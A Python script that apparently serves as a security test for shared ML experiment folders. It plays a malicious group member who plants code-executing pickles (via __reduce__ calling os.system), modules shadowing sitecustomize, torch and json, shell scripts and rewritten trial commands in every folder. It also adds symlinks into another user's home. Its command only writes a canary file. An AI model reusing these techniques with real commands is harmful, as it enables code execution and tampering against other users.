"""What a member of the group does to a runs folder: ``python -I intruder.py RUNS CANARY HOME LEVEL``.

Puts copies of his own in place of what lies at LEVEL, and plants in every folder what would leave a file in
CANARY if anybody ran it. What was there before is kept beside it, under a name that begins with ``.was-``.
"""

import json
import os
import pickle
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

KEPT = ".was-"
MODULES = ("json", "sitecustomize", "usercustomize", "start", "torch", "train", "scalevec", "__init__")
"""Names that Python, an own trainer or a job of ours might import, had they the folder on their path."""
LEVELS: dict[str, tuple[str, ...]] = {
    "the runs folder": (".",),
    "the sweep": ("sweeps/*",),
    "its submissions": ("sweeps/*/slurm",),
    "a submission": ("sweeps/*/slurm/*",),
    "a trial": ("trials/*/*",),
    "folders that are links": ("trials", "sweeps/*"),
    "links": (),
    "commands": (),
}
PICKLES = ("ckpt.pkl", "step-000000010.safetensors", "step-000000010.pt", "evil.pkl", "1_0_submitted.pkl")
LINKED = (
    *(f"trials/*/*/{name}" for name in ("log.txt", "events.jsonl", "jobs.jsonl", "metrics.jsonl")),
    *(f"trials/*/*/{name}" for name in ("claims", "checkpoints", "out", "environment.json", "result.json")),
    *(f"sweeps/*/slurm/*/{name}" for name in ("ended", "cancelled")),
)


class Song:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self.command,)


class Intruder:
    """Somebody at work in ``runs``; ``home`` belongs to somebody else."""

    def __init__(self, runs: Path, canary: Path, home: Path) -> None:
        self.runs, self.home = runs, home
        self.command = f"id > {canary}/$$"

    def attack(self, level: str) -> None:
        if level == "links":
            self.link()
        elif level == "commands":
            self.command_trials()
        for pattern in LEVELS[level]:
            for path in [self.runs] if pattern == "." else list(self.runs.glob(pattern)):
                self.replace(path, linked="links" in level)
        for trial in self.runs.glob("trials/*/*") if level != "links" else ():
            (trial / "out").mkdir(exist_ok=True)
            (trial / "checkpoints").mkdir(exist_ok=True)
        self.plant_everywhere()

    def plant_everywhere(self) -> None:
        for folder in [path for path in (self.runs, *self.runs.rglob("*")) if path.is_dir()]:
            if not folder.is_symlink():
                self.plant(folder)

    def put_aside(self, path: Path) -> Path:
        aside = path.with_name(f"{KEPT}{path.name}")
        if path.exists():
            path.rename(aside)
        else:
            aside.with_name(f"{aside.name}.none").touch()
        return aside

    def replace(self, path: Path, *, linked: bool) -> None:
        aside = self.put_aside(path)
        copy = self.runs.with_name(f"{self.runs.name}-{path.name}") if linked else path
        shutil.copytree(aside, copy)
        if linked:
            path.symlink_to(copy)

    def plant(self, folder: Path) -> None:
        python = f"import os\nos.system({self.command!r})\n"
        song = pickle.dumps(Song(self.command))
        entry = {"trial_id": "0" * 64, "command": ["sh", "-c", self.command], "directory": str(folder)}
        payload = {"records": str(folder), "jobs": [[entry | {"token": ""}]] * 4}
        planted = {f"{name}.py": python.encode() for name in MODULES}
        planted |= {
            "payload.json": json.dumps(payload).encode(),
            "submit.sh": f"#!/bin/sh\n{self.command}\n".encode(),
        }
        planted |= dict.fromkeys(PICKLES, song)
        for name in ("snapshots/a/b/scalevec/orchestrator/snapshots/start", "trainers/a/json"):
            planted |= {f"{name}.py": python.encode()} if folder == self.runs else {}
        for kept in folder.glob("*.pkl"):  # what was there, by whatever number
            planted[kept.name] = song
        for name, content in planted.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.unlink(missing_ok=True)
            path.write_bytes(content)

    def link(self) -> None:
        for pattern in LINKED:
            folders, _, name = pattern.rpartition("/")
            for folder in self.runs.glob(folders):
                is_file = "." in name
                self.put_aside(folder / name)
                (folder / name).symlink_to(self.home / ("thesis.txt" if is_file else "thesis"))
                for job in range(1, 40) if name == "ended" else ():
                    for log in (f"{job}.txt", f"{job}_0_log.err", f"{job}_0_log.out"):
                        (folder / log).symlink_to(self.home / "thesis.txt")

    def command_trials(self) -> None:
        """Let each trial be one of a trainer with a command of the intruder's."""
        for path in self.runs.glob("trials/*/*/trial.json"):
            record = json.loads(path.read_text())
            trainer = record["semantic"]["trainer"]
            trainer |= {"command": ["sh", "-c", self.command], "files": []}
            self.put_aside(path)
            path.write_text(json.dumps(record))


def repair(runs: Path) -> None:
    """Put back what :class:`Intruder` has put aside; what was planted beside it stays."""
    outermost = runs.with_name(f"{KEPT}{runs.name}")
    for aside in [outermost] if outermost.exists() else sorted(runs.rglob(f"{KEPT}*")):
        path = aside.with_name(aside.name.removeprefix(KEPT).removesuffix(".none"))
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        else:
            path.unlink(missing_ok=True)
        if aside.name.endswith(".none"):
            aside.unlink()
        else:
            aside.rename(path)


if __name__ == "__main__":
    os.umask(0o002)
    Intruder(*map(Path, sys.argv[1:4])).attack(sys.argv[4])
